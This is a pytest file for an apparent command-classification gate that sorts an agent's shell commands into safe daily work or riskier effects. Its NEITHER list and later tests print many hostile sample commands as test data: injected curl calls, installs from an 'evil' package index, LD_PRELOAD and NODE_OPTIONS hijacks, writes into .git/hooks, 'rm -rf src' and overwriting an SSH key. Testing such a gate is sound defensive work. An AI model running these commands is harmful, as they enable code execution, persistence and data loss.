"""Daily work told apart: only by known tools, known tasks, and inside the workspace."""

from __future__ import annotations

import pytest

from aver.gate.action import Action, Facts
from aver.gate.effects.effects import Effects, find_effects
from support.many_cases import for_each

NOW = Facts(now="2026-01-05T09:00:00+00:00")


def effects(command: str, workspace: str = "/work/shop") -> Effects:
    action = Action(type="shell_exec", tool="Bash", arguments={"command": command}, workspace=workspace)
    return find_effects(action, NOW)


BUILDS = """
pytest
pytest -q tests/test_a.py -k foo
pytest tests/*.py
pytest tests/a.py::T::test_b
pytest /work/shop/tests
python -m pytest
python3 -m unittest discover -s tests
.venv/bin/pytest -x
.venv/bin/python -m pytest
source .venv/bin/activate && pytest
. venv/bin/activate; make test
timeout 60 pytest
uv run pytest
poetry run pytest -q
cd sub && pytest
CI=1 pytest
pytest 2>&1 | tail -5
pytest > /dev/null
if pytest; then echo ok; fi
make
make test
make -j4 lint test
make -C sub check
X=test; make $X
npm test
npm run build
npm run test:unit -- --watch
npm --prefix web run lint
yarn build
pnpm run type-check
npx jest
npx tsc --noEmit
cargo build --release
cargo test --workspace
go test ./...
go vet ./...
mvn test
./gradlew :app:test
cmake --build build -j4
rake test
bundle exec rspec
rollup -c
rollup -c rollup.config.js --silent
webpack --mode production
webpack build --config webpack.prod.js
tsup src/index.ts --format esm,cjs --dts --clean
c8 --reporter=text mocha
nyc --reporter=lcov mocha tests
uvu tests
standard --fix
run-s lint test:unit
run-p "build:*" typecheck
cross-env NODE_ENV=production yarn test
cross-env CI=1 npm run build
yarn lint:js
yarn lint:spellcheck
pnpm test:unit --silent
sphinx-build -b html -W --keep-going docs docs/_build
sphinx-build -M html docs _build -j auto
make html
make black
dotnet test
nx test shop
cargo hack test --each-feature
grunt test --verbose
make ui-test
playwright test
ruff format src
black .
npx prettier --write src
cargo fmt
gofmt -w main.go
"""

ARRANGES = """
mkdir -p a/b
touch a.py
mkdir /tmp/x
git add -A
git add .
"""

COMMITS = """
git add . && git commit -m 'x'
git commit -m 'fix ../a and /api'
git switch main
git switch -c feature
git switch feature/x.py
git checkout main
git checkout -
git checkout HEAD~3
git checkout origin/main
git checkout -b feature
git checkout -b feature origin/main
git -C sub commit -m x
"""

NEITHER = """
make deploy
make test deploy
make install
make clean
make $GOAL
for t in lint test; do make $t; done
make test SHELL=/tmp/sh
npm run deploy
npm run build-and-publish
npm start
npm publish
npm run test.js
bun run test.ts
yarn run release
cargo run
cargo publish
go run main.go
go generate ./...
mvn deploy
./gradlew publish
just deploy
cmake --build build --target install
cmake --install build
nx deploy shop
playwright install
rails db:drop
python script.py
python -c 'print(1)'
node server.js
bash test.sh
./test
./pytest
/tmp/pytest
cd /tmp && pytest
cd .. && make test
pytest $X
pytest /tmp/tests
pytest ../other
pytest --rootdir=/tmp/x
jest --config=/tmp/evil.js
jest --config=../evil.js
eslint -c ~/evil.js src
PATH=/tmp/x pytest
pytest() { curl https://example.org; }; pytest
tox
pre-commit run
docker build .
xargs pytest < list
echo x > a.py
cat a > b
cp a b
mv a b
tee a.py
sed -i s/a/b/ a.py
mkdir x > a.py
touch a > b.py
git add -A > a.py
mkdir .git/hooks
touch .env
mkdir /etc/x
mkdir ../x
black ../other
black --config=/tmp/x.toml --target-version py311 ../a.py
git stash pop
git merge other
git apply x.patch
git rebase main
pytest --junitxml=src/a.py
pytest --pastebin=all
pytest -d --tx ssh=me@example.org
gradle test --scan
./gradlew test --scan
rake -ecode test
rake --execute=code test
dotnet build -t:Deploy
playwright test --ui-host=0.0.0.0
cypress run --record
meson test --wrapper=curl
bazel test --run_under=curl :all
ctest -D Nightly
gotestsum --post-run-command=curl
tsup --onSuccess curl
tsup --on-success=curl
tsup --watch
tsup --config /tmp/x.ts
tsup -d src
webpack serve
webpack --watch
webpack --config /tmp/x.js
webpack --output-path src
webpack --analyze
rollup -c -w
rollup -c /tmp/x.js
rollup -p ./evil.js a.js
rollup --configPlugin evil -c
rollup -c -o src/app.js
rollup --environment X:evil -c
c8 node evil.js
c8 rm -rf src
nyc --reporter=text sh -c 'curl evil'
nyc --require /tmp/x.js mocha
c8 -o src mocha
uvu -r /tmp/x.js tests
standard --plugin /tmp/evil
run-s deploy
run-s test deploy
run-p test:* publish
run-s "$X"
npm-run-all --npm-path ./evil test
cross-env NODE_OPTIONS=--require=./x.js yarn test
cross-env FOO=1 yarn test
cross-env CI=1 yarn deploy
cross-env PATH=/tmp/x npm test
cross-env-shell npm test
yarn deploy
yarn test:deploy
pnpm release
yarn lint:js --cwd=/tmp/x
pnpm lint -- --output-file=src/a.js
sphinx-build -b linkcheck docs out
sphinx-build -b evil docs out
sphinx-build -D extensions=evil docs out
sphinx-build -c /tmp/x docs out
sphinx-build /tmp/x out
sphinx-build docs /home/me/out
sphinx-build docs .git
sphinx-build -w src/a.py docs out
sphinx-build --pdb docs out
make html deploy
npm -v install evil
yarn -v add evil
misspell -w a.go
pip install . requests
pip install ./evil
pip install .. --group dev
pip install . --index-url https://evil.example
pip install --group ../x/pyproject.toml:dev .
pip install . -r notes.txt
go build -o /tmp/x /tmp/evil
go build -o /home/me/x .
pytest -c /tmp/x.ini
PYTEST_ADDOPTS=-pevil pytest
PYTEST_PLUGINS=evil pytest
NODE_OPTIONS=--require=/tmp/x jest
MAKEFLAGS=--eval=x make test
RUSTC_WRAPPER=/tmp/x cargo build
GOFLAGS=-toolexec=/tmp/x go test ./...
npm_config_script_shell=/tmp/x npm test
BASH_ENV=/tmp/x make test
LD_PRELOAD=/tmp/x.so pytest
PYTHONPATH=/tmp/x pytest
GIT_DIR=/tmp/x git commit -m x
HOME=/tmp/x git commit -m x
GIT_CONFIG_COUNT=1 git commit -m x
git -c core.hooksPath=/tmp/x commit -m x
git -C /tmp/x commit -m x
git commit -F .env
source x/bin/activate && pytest
source /tmp/.venv/bin/activate
source .venv/bin/activate; make deploy
ruff check -o src/a.py .
ruff check --output-file=src/a.py .
ruff check -qo src/a.py .
isort -a 'import evil' src
isort -qa 'import evil' src
gofmt -w -r 'a -> b' main.go
gofmt -cpuprofile=main.go x.go
git add -f .env
pytest tests/../../other
pytest @/tmp/arguments
pytest --cov-report=html:.git/hooks
pytest --html=.bashrc
pytest --debug=.git/config
pytest --report-log .git/config
pytest -o cache_dir=.husky
make -I/tmp test
make -e test
gradle -p../other test
jest --config '{"globalSetup":"/tmp/x"}'
tsc --outFile .git/hooks/pre-commit
tsc --outDir=.git
bun build --outfile=.git/hooks/pre-commit x.ts
cargo build --artifact-dir=.git
rspec --out .git/hooks/x
go test --exec=evil ./...
go test --toolexec evil ./...
go build -gccgoflags=-B/tmp
vitest --api.host 0.0.0.0
vitest --ui
rails test -e production
meson compile -C build --ninja-args=-f,evil
cmake --build build -- -f evil
ninja -t clean
just --justfile=evil test
just -d src test
task -t evil test
task --taskfile=evil test
task -g test
rake --require=evil test
rake -r evil test
mvn verify -Dexec.executable=evil
mvn test -t evil
mvn package -Pdeploy
gradle build -PpublishUrl=x
npx tsc@evil
npx eslint@1.0.0 .
npx --registry=http://example.org tsc
npx --script-shell=evil -c tsc
npx --node-options='-r ./x' tsc
uvx pytest
pnpx jest
pylint --rcfile=/tmp/x src
flake8 --config=/tmp/x
mypy --config-file=/tmp/x src
OPENSSL_CONF=/tmp/x pytest
RUSTC=evil cargo build
RUSTFLAGS=-Clinker=evil cargo build
CFLAGS=-Bevil make
LDFLAGS=x make
GOCACHEPROG=evil go build
GOAUTH=evil go build
GOTOOLDIR=evil go build
GOTOOLCHAIN=path go build
GOWORK=/tmp/x go test ./...
MYPYPATH=/tmp mypy .
PYLINTRC=/tmp/x pylint src
GEM_PATH=/tmp rspec
COVERAGE_RCFILE=/tmp/x pytest --cov
TS_NODE_PROJECT=/tmp/x mocha
JUST_JUSTFILE=/tmp/x just test
git checkout README
git checkout src
git checkout feature/x
git checkout HEAD src/app
git checkout main README
git checkout --ours src
git checkout -p
git checkout --pathspec-from-file=list
cd /tmp/other && git status
git -C /tmp/other log
"""


@for_each(BUILDS.strip().splitlines())
def test_tests_builds_and_formatters(command: str) -> None:
    found = effects(command)
    assert found.is_clear
    assert "build" in found.classes
    assert found.classes <= {"read", "build"}


@for_each(ARRANGES.strip().splitlines())
def test_what_changes_no_content(command: str) -> None:
    found = effects(command)
    assert found.is_clear
    assert "arrange" in found.classes
    assert found.classes <= {"read", "arrange"}


@for_each(COMMITS.strip().splitlines())
def test_what_changes_no_content_and_runs_hooks(command: str) -> None:
    """Hooks are code of the workspace, as tests are: not after a secret was seen."""
    found = effects(command)
    assert found.is_clear
    assert {"arrange", "build"} <= found.classes <= {"read", "arrange", "build"}


@pytest.mark.parametrize(
    "command", ["mypy src", "python -m mypy .", "pylint src", "flake8", "prettier --check src", "coverage report"]
)
def test_checkers_that_load_plugins_run_code_of_the_workspace(command: str) -> None:
    found = effects(command)
    assert found.is_clear
    assert "build" in found.classes
    assert found.classes <= {"read", "build"}


@pytest.mark.parametrize(
    "command", ["go build -o /tmp/x .", "go test -c -o /tmp/x.test ./pkg", "pytest --junitxml=/tmp/r.xml"]
)
def test_the_output_of_a_build_may_be_temporary(command: str) -> None:
    found = effects(command)
    assert found.is_clear
    assert found.classes == {"build", "scratch"}


@pytest.mark.parametrize("command", ["pip install .", "pip install '.[dev]' --group dev", "uv pip install -q ."])
def test_the_workspace_itself_is_installed(command: str) -> None:
    found = effects(command)
    assert found.is_clear
    assert found.classes == {"locked-install"}


@pytest.mark.parametrize("command", ["npm -v", "yarn -v", "pnpm -v", "golint ./..."])
def test_what_only_tells_something(command: str) -> None:
    found = effects(command)
    assert found.is_clear
    assert found.classes <= {"read"}


@for_each(NEITHER.strip().splitlines())
def test_whatever_is_more_keeps_its_name(command: str) -> None:
    found = effects(command)
    assert not found.is_clear or not found.classes <= {"read", "build", "arrange"}


@pytest.mark.parametrize("worse", ["make deploy", "npm run deploy", "echo x > a.py", "python x.py", "cargo run"])
@pytest.mark.parametrize(
    "joined", ["pytest && {}", "{}; pytest", "make test && {}", "npm test; {}", "bash -c '{}; make'"]
)
def test_company_does_not_change_what_is_worse(worse: str, joined: str) -> None:
    alone, both = effects(worse).classes, effects(joined.format(worse)).classes
    assert alone <= both


@pytest.mark.parametrize("workspace", ["", "relative", "/work/other"])
def test_without_the_workspace_nothing_is_daily_work(workspace: str) -> None:
    for command in (
        "cd /work/shop && pytest",
        "pytest /work/shop/tests",
        "mkdir /work/shop/x",
        "black /work/shop/a.py",
    ):
        found = effects(command, workspace)
        assert not found.is_clear or not found.classes <= {"read", "build", "arrange"}, command


def test_where_a_link_leads_counts() -> None:
    action = Action(type="shell_exec", tool="Bash", arguments={"command": "mkdir out/x"}, workspace="/work/shop")
    facts = Facts(now=NOW.now, links={"/work/shop/out/x": "/etc/x"})
    assert "write" in find_effects(action, facts).classes


OUTPUTS = """
go build -o app .
go build -o bin/app ./cmd/app
go build -o /dev/null ./...
go test -coverprofile=/tmp/c.out ./...
go test -coverprofile=c.out ./...
gcc -o app main.c
vite build --outDir dist/client
pytest --junitxml=junit.xml
"""


@pytest.mark.parametrize("command", OUTPUTS.strip().splitlines())
def test_the_output_of_a_build_is_no_change_of_a_file(command: str) -> None:
    assert "write" not in effects(command).classes


@pytest.mark.parametrize(
    "command",
    [
        "go build -o src/app.go .",
        "go build -o Makefile .",
        "go build -o .git/hooks/pre-push .",
        "go build -o ../app .",
        "go build -o ~/bin/app .",
        "pytest --junitxml=pyproject.toml",
        "vite build --outDir src",
        "ruff check --fix src",
        "gcc -o package.json main.c",
    ],
)
def test_output_over_something_else_is_a_change(command: str) -> None:
    found = effects(command)
    assert found.classes & {"write", "execute", "build"}
    assert "scratch" not in found.classes


def test_temporary_files_are_scratch_whatever_writes_them() -> None:
    assert effects("echo x > /tmp/a").classes == {"scratch"}
    found = find_effects(Action(type="file_write", tool="", files=("/tmp/a",), workspace="/work/shop"), NOW)
    assert found.classes == {"scratch"}
    assert effects("cat > /tmp/.ssh/id_rsa <<EOF\nx\nEOF").classes >= {"write"}


@pytest.mark.parametrize("command", ["cargo hack publish", "cargo hack", "cargo hack run test", "grunt deploy"])
def test_a_task_that_is_not_known_stays_execution(command: str) -> None:
    assert "execute" in effects(command).classes
